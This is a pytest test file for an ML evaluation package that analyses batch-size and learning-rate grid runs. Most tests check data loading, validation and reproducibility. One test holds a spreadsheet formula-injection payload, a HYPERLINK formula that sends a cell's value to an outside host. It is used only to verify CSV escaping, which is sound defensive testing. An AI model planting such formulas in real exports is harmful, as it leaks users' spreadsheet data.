from __future__ import annotations

import csv
import json
import math
import shutil
import statistics
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pandas as pd
import pytest

from smallbatch.analysis.evaluation import evaluate, read_evaluation, write_table
from smallbatch.analysis.frames import load_results
from smallbatch.analysis.generalisation import best_by_study, best_cells
from smallbatch.analysis.stability import fit_upper_limit, stable_ranges
from smallbatch.errors import UserError
from smallbatch.records.columns import find_columns
from smallbatch.report.environment import environment_table, read_timings
from smallbatch.tracking.entries import column_points
from smallbatch.tracking.records import read_column
from tests.analysis import synthetic


@pytest.fixture
def models(tmp_path: Path) -> Path:
    small = synthetic.Study("tiny", batch_sizes=(2, 32), base_lrs=(2**-6, 2**-4, 2**-3), epochs=7)
    return synthetic.write_models(tmp_path / "models", (small,))


def scale(column: Path, factor: float) -> None:
    """Give a column other test accuracies, as another training does."""
    history = pd.read_parquet(column / "history.parquet")
    history["test_accuracy"] *= factor
    history.to_parquet(column / "history.parquet")
    content = json.loads((column / "runs.json").read_text())
    for run in content["runs"]:
        if run["outcome"] == "finished":
            run["final"]["test_accuracy"] *= factor
    (column / "runs.json").write_text(json.dumps(content))


def test_known_answers_come_back(tmp_path: Path) -> None:
    models = synthetic.write_models(tmp_path / "models")
    outcome = evaluate(models, tmp_path / "out")
    assert (outcome.n_studies, outcome.n_runs, outcome.skipped) == (2, 2 * 6 * 8 * 3, ())
    runs, cells, _ = read_evaluation(tmp_path / "out")
    assert best_by_study(best_cells(cells))["batch_size"].tolist() == [8, 8]
    study = synthetic.STUDIES[1]
    ranges = stable_ranges(cells, [0.5])
    ranges = ranges[ranges["study"] == study.name].set_index("batch_size", drop=False)
    for m in study.batch_sizes:
        # the highest η̃ of the grid that lies at or below the made-up limit
        expected = max(value for value in study.base_lrs if value <= study.limit(m))
        assert ranges.loc[m, "upper"] == expected
    fit = fit_upper_limit(ranges)
    assert fit is not None
    # the grid hides where in its octave the limit lies
    assert fit.rms_octaves < 0.5
    assert 16 < fit.m_star < 64
    finished = runs[runs["outcome"] == "finished"]
    assert (finished["generalisation_gap"] - 0.05).abs().max() < 1e-9
    assert runs.loc[runs["outcome"] == "diverged", "reported_accuracy"].isna().all()
    assert runs.loc[runs["outcome"] == "diverged", "diverged_at"].notna().all()


@pytest.mark.parametrize(
    ("epochs", "ends", "reported"),
    [
        (7, [0.9, 0.9, 0.9, 0.9], [None]),  # the last epoch alone
        (24, [0.9, 0.9, 0.1, 0.6], [0.1, 0.6, None]),
        (41, [0.9, 0.2, 0.1, 0.6, 0.5], [0.2, 0.1, 0.6, 0.5, None]),  # the paper's, in Fig. 17
    ],
)
def test_reported_accuracy_is_the_median_of_the_last_epochs(
    tmp_path: Path, epochs: int, ends: list[float], reported: list[float | None]
) -> None:
    """Of the run's last eighth; those before it have other accuracies, which do not count."""
    study = synthetic.Study("tiny", batch_sizes=(2,), base_lrs=(2**-6,), seeds=1, epochs=epochs)
    models = synthetic.write_models(tmp_path / "models", (study,))
    path = models / "synthetic/tiny/m2/history.parquet"
    history = pd.read_parquet(path)
    last = history["test_accuracy"].iloc[-1]  # runs.json has it too
    history["test_accuracy"] = [*[0.01] * (epochs - 1 - len(ends)), *ends, last]
    history["validation_accuracy"] = history["test_accuracy"] - 0.01
    final = {"validation_accuracy": history["validation_accuracy"].iloc[-1]}
    content = json.loads((path.parent / "runs.json").read_text())
    content["runs"][0]["final"] |= final
    (path.parent / "runs.json").write_text(json.dumps(content))
    history.sample(frac=1, random_state=0).to_parquet(path)  # the order of rows does not matter
    (row,) = load_results(models).runs.to_dict("records")
    expected = statistics.median(last if value is None else value for value in reported)
    assert row["reported_accuracy"] == expected
    assert row["reported_validation_accuracy"] == pytest.approx(expected - 0.01)


def test_metrics_hold_no_clock_and_are_the_same_twice(models: Path, tmp_path: Path) -> None:
    evaluate(models, tmp_path / "one")
    timing = models / "synthetic/tiny/m2/timing.json"
    timing.unlink()
    evaluate(models, tmp_path / "two")
    text = (tmp_path / "one/metrics.json").read_text()
    assert text == (tmp_path / "two/metrics.json").read_text()
    assert sorted(path.name for path in (tmp_path / "one").iterdir()) == [
        "cells.csv", "cells.parquet", "history.parquet", "metrics.json", "runs.csv", "runs.parquet",
        "set_aside.json",
    ]  # fmt: skip


def test_unfinished_columns_are_skipped_and_named(models: Path, tmp_path: Path) -> None:
    (models / "synthetic/tiny/m32/history.parquet").unlink()
    (models / "synthetic/tiny/m8").mkdir()
    outcome = evaluate(models, tmp_path / "out")
    assert outcome.skipped == ("synthetic/tiny/m8", "synthetic/tiny/m32")
    assert "skipped 2 unfinished: synthetic/tiny/m8, synthetic/tiny/m32" in outcome.lines()


def test_columns_behind_links_are_found(models: Path, tmp_path: Path) -> None:
    def found() -> list[list[str]]:
        return [[it.relative_to(models).as_posix() for it in each] for each in find_columns(models)]

    for place in ("synthetic/tiny", "synthetic", "synthetic/tiny/m2"):
        link, away = models / place, tmp_path / place.replace("/", "-")
        link.rename(away)
        link.symlink_to(away)
    (models / "circle").symlink_to(models)
    (models / "a").symlink_to(models / "synthetic")  # the same columns under another name
    assert found() == [["synthetic/tiny/m2", "synthetic/tiny/m32"], []]
    (models / "readme").symlink_to(__file__)
    (models / "elsewhere").symlink_to(tmp_path / "not mounted")
    (tmp_path / "synthetic-tiny/m32/runs.json").unlink()
    assert found() == [["synthetic/tiny/m2"], ["elsewhere", "synthetic/tiny/m32"]]


@pytest.mark.parametrize("left", [("m2.old.part",), ("m2.part",), ("m2.part", "m2.old.part")])
def test_a_column_that_a_killed_writer_set_aside_is_unfinished(
    models: Path, left: tuple[str, ...]
) -> None:
    tiny = models / "synthetic/tiny"
    for name in left:
        shutil.copytree(tiny / "m2", tiny / name)
    assert find_columns(models) == ([tiny / "m2", tiny / "m32"], [])
    shutil.rmtree(tiny / "m2")
    assert find_columns(models) == ([tiny / "m32"], [tiny / "m2"])


def test_columns_of_different_settings_are_pointed_out(models: Path, tmp_path: Path) -> None:
    path = models / "synthetic/tiny/m32/runs.json"
    content = json.loads(path.read_text())
    content["settings"]["weight_decay"] = 0.5
    path.write_text(json.dumps(content))
    (warning,) = evaluate(models, tmp_path / "out").warnings
    assert warning == (
        "synthetic/tiny: its columns were trained with different weight_decay (m2 | m32); train "
        "the older ones again, or delete those of them under models/synthetic/tiny/ that the grid "
        "no longer has"
    )


def test_two_evaluations_at_once_both_succeed(models: Path, tmp_path: Path) -> None:
    evaluate(models, tmp_path / "alone")
    with ThreadPoolExecutor(2) as pool:
        for done in [pool.submit(evaluate, models, tmp_path / "out") for _ in range(6)]:
            done.result()
    for path in (tmp_path / "alone").iterdir():
        assert (tmp_path / "out" / path.name).read_bytes() == path.read_bytes()
    assert len(list((tmp_path / "out").iterdir())) == 7


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_in_a_csv_is_no_formula(tmp_path: Path, sign: str) -> None:
    text = sign + 'HYPERLINK("https://example.org?"&A1, "x")'
    odd = synthetic.Study("odd", batch_sizes=(4,), base_lrs=(0.01,), settings={"figure": text})
    evaluate(synthetic.write_models(tmp_path / "models", (odd,)), tmp_path / "out")
    with (tmp_path / "out/runs.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1][rows[0].index("figure")] == f"'{text}"
    assert not [cell for row in rows for cell in row if cell.startswith(sign)]
    runs = read_evaluation(tmp_path / "out")[0]
    assert set(runs["figure"]) == {text}  # Parquet is for programs


@pytest.mark.parametrize(
    "text",
    [" =1", "\n=1", "\n1", "\ufeff=1", "\u200b+1", "\xa0-1", "\u2066 \x00@x",
     "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", " \ufe66x"],
)  # fmt: skip
def test_a_formula_behind_what_a_spreadsheet_skips_is_none(tmp_path: Path, text: str) -> None:
    write_table(pd.DataFrame({"t": [text, "a =1"]}), tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["t"], [f"'{text}"], ["a =1"]]


def test_numbers_and_names_in_a_csv(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=a": [-1.5, math.nan], "n": pd.array([-2, None], "Int64"), "t": "-x"})
    write_table(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "'=a,n,t\n-1.5,-2,'-x\n,,'-x\n"


def _truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:100])


@pytest.mark.parametrize("name", ["runs.json", "history.parquet", "timing.json"])
def test_a_damaged_file_is_named(models: Path, tmp_path: Path, name: str) -> None:
    _truncate(models / "synthetic/tiny/m2" / name)
    with pytest.raises(UserError, match=rf"m2/{name}: damaged") as caught:
        evaluate(models, tmp_path / "out")
    assert "\n" not in str(caught.value)
    assert not (tmp_path / "out").exists()


def test_a_missing_key_is_named(models: Path) -> None:
    path = models / "synthetic/tiny/m2/runs.json"
    content = json.loads(path.read_text())
    del content["runs"][0]["outcome"]
    path.write_text(json.dumps(content))
    with pytest.raises(
        UserError, match=r"m2/runs\.json: damaged, runs\.0\.outcome: Field required"
    ):
        load_results(models)


def test_runs_and_history_must_agree(models: Path) -> None:
    path = models / "synthetic/tiny/m2/history.parquet"
    history = pd.read_parquet(path)
    history[history["run"] != history["run"].iloc[0]].to_parquet(path)
    with pytest.raises(UserError, match="does not hold the same runs"):
        load_results(models)


@pytest.mark.parametrize("metric", ["validation_loss", "validation_accuracy", "test_accuracy"])
@pytest.mark.parametrize("file", ["runs.json", "history.parquet"])
def test_files_of_different_trainings_are_not_read_as_one(
    models: Path, file: str, metric: str
) -> None:
    """As one training's history beside the finals of another; a last bit tells."""
    tiny = models / "synthetic/tiny/m2"
    content = json.loads((tiny / "runs.json").read_text())
    run = next(it for it in content["runs"] if it["outcome"] == "finished")
    other = math.nextafter(run["final"][metric], 0)
    if file == "runs.json":
        run["final"][metric] = other
        (tiny / file).write_text(json.dumps(content))
    else:
        history = pd.read_parquet(tiny / file)
        last = (history["run"] == run["run"]) & (history["epoch"] == history["epoch"].max())
        history.loc[last, metric] = other
        history.to_parquet(tiny / file)
    with pytest.raises(UserError, match=rf"m2/history\.parquet: not of .* runs\.json .*{metric}"):
        load_results(models)


@pytest.mark.parametrize("outcome", ["finished", "diverged"])
@pytest.mark.parametrize("lost", ["last", "first", "none, one is there twice", "update"])
def test_a_history_without_some_epochs_is_refused(models: Path, outcome: str, lost: str) -> None:
    path = models / "synthetic/tiny/m2/history.parquet"
    history = pd.read_parquet(path)
    own = history[history["outcome"] == outcome]
    sizes = own.groupby("run").size()
    own = own[own["run"] == sizes.index[sizes > 1][0]].sort_values("epoch")
    if lost in ("last", "first"):
        history = history.drop(own.index[-1 if lost == "last" else 0])
    elif lost == "update":
        history.loc[own.index[-1], "updates"] -= 1
    else:
        history = pd.concat([history, own.tail(1)])
    history.to_parquet(path)
    with pytest.raises(UserError, match=r"history\.parquet: run .*allowed: all epochs to update"):
        load_results(models)


def test_a_finished_run_has_all_planned_epochs(models: Path) -> None:
    """Of a history that ends early and of a plan for more, how many epochs count would differ."""
    path = models / "synthetic/tiny/m2/runs.json"
    content = json.loads(path.read_text())
    content["settings"]["epochs"] += 1
    path.write_text(json.dumps(content))
    with pytest.raises(UserError, match=r"epochs: found 7.* of 8 planned"):
        load_results(models)


def test_an_evaluation_with_accuracies_over_other_epochs_is_refused(
    models: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As one of a version that took the last five of any run."""
    path = models / "synthetic/tiny/m2/history.parquet"
    history = pd.read_parquet(path)
    history.loc[history["epoch"].between(3, 5), "test_accuracy"] = 0.0
    history.to_parquet(path)
    with monkeypatch.context() as patch:
        patch.setattr("smallbatch.records.columns.reported_epochs", lambda _: 5)
        evaluate(models, tmp_path / "out")
        read_evaluation(tmp_path / "out")
    with pytest.raises(UserError, match=r"not of one evaluation .*run smallbatch evaluate"):
        read_evaluation(tmp_path / "out")
    evaluate(models, tmp_path / "out")
    read_evaluation(tmp_path / "out")


def test_timing_of_another_column_is_refused(models: Path, tmp_path: Path) -> None:
    m2, m32 = (models / "synthetic/tiny" / name / "timing.json" for name in ("m2", "m32"))
    shutil.copy(m2, m32)
    for read in (lambda: evaluate(models, tmp_path / "out"), lambda: read_timings(models)):
        with pytest.raises(UserError, match=r"m32/timing\.json: does not hold the same runs"):
            read()
    content = json.loads(m2.read_text())
    m32.write_text(json.dumps(content | {"runs": {}}))  # says nothing of runs
    assert len(read_timings(models)) == 2


def test_what_is_not_known_of_a_columns_time_is_shown_nowhere(models: Path) -> None:
    path = models / "synthetic/tiny/m2/timing.json"
    timing = json.loads(path.read_text())
    for name in ("seconds", "images_per_second", "peak_memory_bytes"):
        del timing["column"][name]
    path.write_text(json.dumps(timing))
    timings = read_timings(models)
    assert timings[["seconds", "images_per_second"]].notna().sum(axis=1).tolist() == [0, 2]
    table = environment_table(timings)
    assert table is not None
    row = next(row for row in table.rows if row[0].startswith("Time in training"))
    assert row[1].endswith(" (1 of 2 columns)")
    column = read_column(path.parent)
    assert {point.key for point in column_points(column)}.isdisjoint(
        ("seconds", "images_per_second")
    )
    longest = max(run["seconds"] for run in timing["runs"].values())
    assert column.ended_ms - column.started_ms == pytest.approx(1000 * longest, abs=1)


def test_nothing_trained_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no such directory"):
        evaluate(tmp_path / "models", tmp_path / "out")
    (tmp_path / "models").mkdir()
    with pytest.raises(UserError, match="no complete column"):
        evaluate(tmp_path / "models", tmp_path / "out")


def _copy(models: Path, dataset: str, study: str) -> Path:
    """The columns of synthetic/tiny under other names, as training the same settings makes them."""
    for column in (models / "synthetic/tiny").iterdir():
        copy = models / dataset / study / column.name
        shutil.copytree(column, copy)
        content = json.loads((copy / "runs.json").read_text())
        content["study"], content["dataset"]["name"] = study, dataset
        (copy / "runs.json").write_text(json.dumps(content))
        history = pd.read_parquet(copy / "history.parquet").assign(study=study)
        history.to_parquet(copy / "history.parquet")
    return models / dataset / study


def test_runs_of_one_hash_under_several_names_stay_apart(models: Path, tmp_path: Path) -> None:
    _copy(models, "synthetic", "twin")
    scale(_copy(models, "other", "tiny") / "m2", 0.5)
    assert evaluate(models, tmp_path / "out").n_studies == 3
    runs, cells, _ = read_evaluation(tmp_path / "out")
    assert len(runs) == 3 * 18
    assert len(cells) == 3 * 6
    accuracy = runs[runs["batch_size"] == 2].set_index(["dataset", "study", "run"])
    accuracy = accuracy["reported_accuracy"].dropna()
    assert accuracy["synthetic", "tiny"].equals(accuracy["synthetic", "twin"])
    assert accuracy["other", "tiny"].equals(accuracy["synthetic", "tiny"] / 2)


def test_a_folder_that_was_copied_is_named(models: Path) -> None:
    shutil.copytree(models / "synthetic/tiny/m2", models / "synthetic-backup/tiny/m2")
    with pytest.raises(UserError, match=r"tiny/m2: holds runs of synthetic/tiny"):
        load_results(models)


def test_so_is_an_older_copy_with_other_settings(models: Path) -> None:
    """Its runs have other hashes, but they are at the same places in the grid."""
    copy = models / "before/tiny/m2"
    shutil.copytree(models / "synthetic/tiny/m2", copy)
    content = json.loads((copy / "runs.json").read_text())
    for run in content["runs"]:
        run["run"] = run["run"][::-1]
    (copy / "runs.json").write_text(json.dumps(content))
    history = pd.read_parquet(copy / "history.parquet")
    history["run"] = history["run"].str[::-1]
    history.to_parquet(copy / "history.parquet")
    (copy / "timing.json").unlink()
    with pytest.raises(UserError, match=r"tiny/m2: holds runs of synthetic/tiny"):
        load_results(models)


@pytest.mark.parametrize("name", ["runs", "cells", "history"])
def test_tables_of_two_evaluations_are_not_read_as_one(
    models: Path, tmp_path: Path, name: str
) -> None:
    """As after a study was trained again: the same runs, with other accuracies."""
    evaluate(models, tmp_path / "out")
    scale(models / "synthetic/tiny/m2", 0.999)
    evaluate(models, tmp_path / "later")
    shutil.copy(tmp_path / f"later/{name}.parquet", tmp_path / "out")
    with pytest.raises(UserError, match=r"not of one evaluation .*; run smallbatch evaluate$"):
        read_evaluation(tmp_path / "out")


@pytest.mark.slow
def test_two_thousand_long_runs_take_seconds(tmp_path: Path) -> None:
    studies = tuple(
        synthetic.Study(
            f"s{index}",
            epochs=82,
            log_base_lr_0=1.0,
            m_star=2.0**20,
            batch_sizes=tuple(2**k for k in range(1, 12)),
            base_lrs=tuple(2.0**k for k in range(-12, 1)),
        )
        for index in range(5)
    )
    models = synthetic.write_models(tmp_path / "models", studies)
    start = time.perf_counter()
    assert evaluate(models, tmp_path / "out").n_runs == 5 * 429
    assert time.perf_counter() - start < 20
    shutil.rmtree(models)
